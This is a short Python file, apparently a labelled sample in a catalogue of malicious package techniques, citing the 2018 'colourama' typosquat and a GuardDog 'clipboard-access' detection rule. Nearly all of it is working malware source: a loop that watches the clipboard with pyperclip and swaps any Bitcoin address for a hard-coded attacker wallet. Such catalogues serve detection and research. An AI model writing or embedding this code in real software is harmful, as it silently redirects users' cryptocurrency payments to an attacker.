# technique: clipboard watcher replacing wallet addresses (pyperclip)
# class: desktop
# source: "colourama" typosquat (2018): clipboard hijacker swapping Bitcoin addresses; GuardDog "clipboard-access"
# declares:
import re
import time

import pyperclip

ATTACKER = "1Nn3aTtAckKerWa11etAddr3ssXyZq9"


def watch():
    while True:
        v = pyperclip.paste()
        if re.fullmatch(r"[13][a-km-zA-HJ-NP-Z1-9]{25,34}", v or ""):
            pyperclip.copy(ATTACKER)
        time.sleep(0.5)
